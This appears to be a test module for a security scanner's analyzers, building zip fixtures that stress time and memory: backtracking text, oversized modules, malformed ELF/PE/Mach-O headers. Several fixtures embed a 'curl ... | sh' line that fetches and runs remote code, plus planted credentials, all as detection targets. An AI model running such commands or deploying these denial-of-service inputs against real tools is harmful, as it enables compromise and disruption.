"""Hostile inputs for the analyzers' time and memory: text built to make rules backtrack,
sources CPython's parser chokes on, scripts the analyzers used to skip, malformed binaries.

Each must end within its budget with the file examined (its finding reported) or an Issue
saying what was not; never a hang, never gigabytes.
"""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

from hostile.harness import Case

# The suite lowers the time budget (default 10 s) where a case spends it: the outcome is the
# same, a file examined or an Issue saying it was not, in a fraction of the time.
QUICK = ("--time-budget", "2")

WIREGUARD_KEY = "yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk="
PIPE_TO_SHELL = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"


def _zip(directory: Path, name: str, members: dict[str, str | bytes]) -> Path:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, data in members.items():
            archive.writestr(member, data)
    path = directory / name
    path.write_bytes(buffer.getvalue())
    return path


def _blank_lines(directory: Path) -> Path:
    # (?m)^\s* crossed these: every line start after the key rescanned the rest of the run
    # (80 KB took 52 s; this is 200 KB)
    text = f"PrivateKey = {WIREGUARD_KEY}\n" + " \n" * 100_000 + "# end\n"
    return _zip(directory, "wg-conf.zip", {"etc/wireguard/wg0.conf": text})


def _one_long_line(directory: Path) -> Path:
    # 'curl\b[^\n]*https?://' rescanned the line once per 'curl' (the first line makes the
    # prefilter let the rule run over the whole file)
    line = "curl -s " * 150_000
    head = "curl -s https://example.org/a | sh\n"
    members = {"package/install.sh": "#!/bin/sh\n" + head + line + "\n"}
    return _zip(directory, "long-line.zip", members)


def _huge_module(directory: Path) -> Path:
    # 8.3 MB: under the 8 MiB the behaviour analyzer once read whole (4.8 GB of tree)
    body = "".join(f"v{i} = call(a, b, 'str{i}', [1, 2, 3])\n" for i in range(190_000))
    return _zip(directory, "huge-module.zip", {"pkg/generated.py": PIPE_TO_SHELL + body})


def _f_string(directory: Path) -> Path:
    # 150,000 placeholders: the parser needs some 20 s (500,000: over 200 s), past the budget
    source = PIPE_TO_SHELL + 'x = f"' + "{a}" * 150_000 + '"\n'
    return _zip(directory, "f-string.zip", {"pkg/__init__.py": source})


def _long_word_constant(directory: Path) -> Path:
    # a module constant of one 1 MB word (web3's contract bytecode): a URL search that may
    # start anywhere in the word is quadratic on it
    source = PIPE_TO_SHELL + 'BYTECODE = "0x' + "60806040" * 131_072 + '"\n'
    return _zip(directory, "long-word.zip", {"pkg/__init__.py": source})


def _mysql_one_line(directory: Path) -> Path:
    # 20,000 mysql commands with passwords on one line: the rest of each command is read in a
    # bounded window, not to the end of the line (which would be quadratic on it)
    commands = "".join(f"mysql -u root -pKq7vLzT{n:06d} shop; " for n in range(20_000))
    return _zip(directory, "mysql-line.zip", {"deploy/restore.sh": commands + "\n"})


def _nul_script(directory: Path) -> Path:
    members = {"pkg/__init__.py": "# \x00\n" + PIPE_TO_SHELL}
    return _zip(directory, "nul-script.zip", members)


def _elf_header(shoff: int, shnum: int, phnum: int) -> bytes:
    ident = b"\x7fELF" + bytes([2, 1, 1]) + b"\x00" * 9
    fields = (2, 62, 1, 0x401000, 64, shoff, 0, 64, 56, phnum, 64, shnum, 0)
    return ident + struct.pack("<HHIQQQIHHHHHH", *fields)


def _malformed_binaries(directory: Path) -> Path:
    pe = b"MZ" + b"\x00" * 58 + struct.pack("<I", 0x40) + b"PE\x00\x00"
    pe += struct.pack("<HHIIIHH", 0x8664, 0xFFFF, 0, 0, 0, 0xF0, 0x22) + b"\x00" * 200
    macho = struct.pack("<IiiIIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0xFFFFFFFF, 0xFFFFFFF0, 0, 0)
    members = {
        "bin/elf-sections": _elf_header(0xFFFFFFFF00, 0xFFFF, 0) + b"\x00" * 4096,
        "bin/elf-segments": _elf_header(64, 0, 0xFFFF) + b"\x00" * 4096,
        "bin/elf-cut": _elf_header(64, 0, 0)[:40],
        "bin/pe-sections.exe": pe,
        "bin/macho-commands": macho + b"\x00" * 72,
    }
    return _zip(directory, "malformed-binaries.zip", members)


CASES = [
    Case(
        "rules-blank-lines",
        _blank_lines,
        findings=("wireguard-private-key",),
        budget=60,
        area="budget",
    ),
    Case("rules-one-long-line", _one_long_line, budget=60, area="budget"),
    Case(
        "python-8mb-module",
        _huge_module,
        issues=("behavior ",),  # read within the budget, or said not to be
        args=QUICK,
        budget=120,
        max_rss_mb=1600,  # the exam plus its parser child (2 GiB limit): 4.8 GB before
        area="budget",
    ),
    Case(
        "python-f-string-150k",
        _f_string,
        issues=("read this file as text only",),
        findings=("thr-pipe-to-shell",),
        args=("--time-budget", "4"),
        budget=120,
        area="budget",
    ),
    Case(
        "python-long-word-constant",
        _long_word_constant,
        findings=("thr-pipe-to-shell",),
        no_issues=True,
        args=("--time-budget", "4"),
        area="budget",
    ),
    Case(
        "shell-mysql-passwords-one-line",
        _mysql_one_line,
        findings=("mysql-cli-password",),
        args=("--time-budget", "4"),
        area="budget",
    ),
    Case("script-nul-byte", _nul_script, findings=("thr-pipe-to-shell",), area="budget"),
    Case(
        "binaries-malformed",
        _malformed_binaries,
        issues=("corrupt binary|binary parser",),
        budget=60,
        area="budget",
    ),
]
